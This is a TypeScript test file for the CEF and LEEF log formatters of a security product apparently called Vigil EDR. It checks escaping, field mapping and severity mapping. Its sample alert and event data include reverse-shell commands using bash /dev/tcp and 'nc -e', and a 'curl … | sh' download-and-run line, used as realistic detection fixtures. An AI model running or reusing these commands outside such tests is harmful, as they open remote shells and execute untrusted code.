// CEF and LEEF payloads: header and extension escaping, field mapping from alerts and events, severity mapping.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { AlertLevel } from '../core.js';
import { parseCef, parseLeef } from '../testing/receivers.js';
import { alertRecord, eventRecord } from '../testing/samples.js';
import { escapeCefHeader, escapeCefValue, formatCef } from './cef.js';
import { formatLeef } from './leef.js';

test('CEF escapes | and \\ in the header, and =, \\ and line breaks in extension values', () => {
  assert.equal(escapeCefHeader('a|b\\c\nd'), 'a\\|b\\\\c d');
  assert.equal(escapeCefValue('a=b\\c\r\nd\re'), 'a\\=b\\\\c\\nd\\re');
  const line = formatCef(alertRecord({ ruleTitle: 'pipe | back \\ slash', ruleId: 'r|1', fields: [{ field: 'process.command_line', value: 'x=1 \\ y\nz | w' }] }));
  assert.ok(line.includes('|r\\|1|pipe \\| back \\\\ slash|8|'), line);
  assert.ok(line.includes('cs4=x\\=1 \\\\ y\\nz | w'), line);
  const parsed = parseCef(line);
  assert.equal(parsed.name, 'pipe | back \\ slash');
  assert.equal(parsed.signatureId, 'r|1');
  assert.equal(parsed.extension.cs4, 'x=1 \\ y\nz | w');
});

test('CEF maps an alert: ids, times, count, tags, host and the known event fields', () => {
  const record = alertRecord({ firstSeen: '2026-12-04T10:00:00.000Z', lastSeen: '2026-12-04T10:05:00.000Z', createdAt: '2026-12-04T10:00:01.000Z', count: 3 });
  const alert = record.type === 'alert' ? record.alert : undefined;
  const parsed = parseCef(formatCef(record));
  assert.deepEqual([parsed.version, parsed.vendor, parsed.product, parsed.deviceVersion], ['0', 'Vigil', 'Vigil EDR', '0.1.0']);
  assert.equal(parsed.signatureId, alert!.ruleId);
  assert.equal(parsed.name, alert!.ruleTitle);
  assert.deepEqual(parsed.extension, {
    rt: String(Date.parse('2026-12-04T10:00:01.000Z')),
    start: String(Date.parse('2026-12-04T10:00:00.000Z')),
    end: String(Date.parse('2026-12-04T10:05:00.000Z')),
    cnt: '3',
    externalId: alert!.id,
    cat: 'sigma',
    cs1Label: 'tags',
    cs1: 'attack.execution,attack.t1059.004',
    cs2Label: 'hostId',
    cs2: 'host-1',
    cs3Label: 'level',
    cs3: 'high',
    spid: '4242',
    sproc: 'bash',
    suser: 'www-data',
    dst: '10.0.0.5',
    dpt: '4444',
    cs4Label: 'commandLine',
    cs4: 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1',
  });
});

test('CEF severity follows the Sigma level; values invalid for a CEF key are left out', () => {
  const expected: Record<AlertLevel, string> = { informational: '1', low: '3', medium: '5', high: '8', critical: '10' };
  for (const [level, severity] of Object.entries(expected)) assert.equal(parseCef(formatCef(alertRecord({ level: level as AlertLevel }))).severity, severity);
  const odd = parseCef(formatCef(alertRecord({ fields: [{ field: 'destination.ip', value: 'fe80::1' }, { field: 'destination.port', value: 70000 }] })));
  assert.equal(odd.extension.dst, undefined);
  assert.equal(odd.extension.dpt, undefined);
});

test('CEF maps a raw event to category:action with its id, time and fields', () => {
  const record = eventRecord({ '@timestamp': '2026-12-04T10:00:00.000Z', 'source.ip': '192.0.2.1', 'source.port': 5555 });
  const parsed = parseCef(formatCef(record));
  assert.equal(parsed.signatureId, 'process:start');
  assert.equal(parsed.severity, '1');
  assert.equal(parsed.extension.externalId, record.type === 'event' ? record.event['event.id'] : '');
  assert.equal(parsed.extension.rt, String(Date.parse('2026-12-04T10:00:00.000Z')));
  assert.equal(parsed.extension.src, '192.0.2.1');
  assert.equal(parsed.extension.spt, '5555');
  assert.equal(parsed.extension.cs4, 'curl -s http://203.0.113.7/x | sh');
});

test('LEEF 1.0: escaped header, tab-separated attributes, tabs and line breaks in values become spaces', () => {
  const line = formatLeef(alertRecord({ ruleId: 'id|x', ruleTitle: 'a\tb\nc=d', level: 'critical', createdAt: '2026-12-04T10:00:00.000Z' }));
  assert.ok(line.startsWith('LEEF:1.0|Vigil|Vigil EDR|0.1.0|id\\|x|cat=sigma\tsev=10\tdevTime=2026-12-04T10:00:00.000Z\tdevTimeFormat='), line);
  const parsed = parseLeef(line);
  assert.equal(parsed.eventId, 'id|x');
  assert.equal(parsed.attributes.ruleTitle, 'a b c=d');
  assert.equal(parsed.attributes.usrName, 'www-data');
  assert.equal(parsed.attributes.dst, '10.0.0.5');
  assert.equal(parsed.attributes.dstPort, '4444');
  const event = parseLeef(formatLeef(eventRecord({ '@timestamp': 'garbage' })));
  assert.equal(event.eventId, 'process:start');
  assert.equal(event.attributes.devTime, undefined);
  assert.equal(event.attributes.devTimeFormat, undefined);
});

test('alert fields under their Sigma names map to the same CEF and LEEF keys as Vigil names', () => {
  const record = alertRecord({ fields: [{ field: 'CommandLine', value: 'nc -e /bin/sh 192.0.2.9 9001' }, { field: 'User', value: 'alice' }, { field: 'DestinationIp', value: '192.0.2.9' }] });
  const cef = parseCef(formatCef(record));
  assert.equal(cef.extension.cs4, 'nc -e /bin/sh 192.0.2.9 9001');
  assert.equal(cef.extension.suser, 'alice');
  assert.equal(cef.extension.dst, '192.0.2.9');
  const leef = parseLeef(formatLeef(record));
  assert.equal(leef.attributes.commandLine, 'nc -e /bin/sh 192.0.2.9 9001');
  assert.equal(leef.attributes.usrName, 'alice');
});
